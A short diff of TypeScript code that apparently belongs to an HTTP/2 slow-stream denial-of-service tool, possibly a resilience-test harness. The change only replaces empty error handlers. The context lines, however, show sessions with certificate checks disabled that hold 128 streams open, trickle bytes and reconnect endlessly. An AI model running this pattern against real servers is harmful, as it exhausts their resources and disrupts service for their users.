@@ -98,7 +98,7 @@ function hold(to: number, name: Attack): void {
     rejectUnauthorized: false,
     settings: { initialWindowSize: 0 },
   })
-  session.on('error', () => {})
+  session.on('error', () => undefined)
   session.once('close', () => setTimeout(() => hold(to, name), 100))
   session.once('remoteSettings', () => {
     for (let at = 0; at < 128; at += 1) holdStream(session, name)
@@ -109,7 +109,7 @@ function holdStream(session: ClientHttp2Session, name: Attack): void {
   if (session.closed) return
   const stream = session.request(attacks[name], { endStream: attacks[name][':method'] === 'GET' })
   const timer = setInterval(() => stream.writable && stream.write('x'), 2_000)
-  stream.on('error', () => {})
+  stream.on('error', () => undefined)
   stream.once('close', () => {
     clearInterval(timer)
     setTimeout(() => holdStream(session, name), 100)
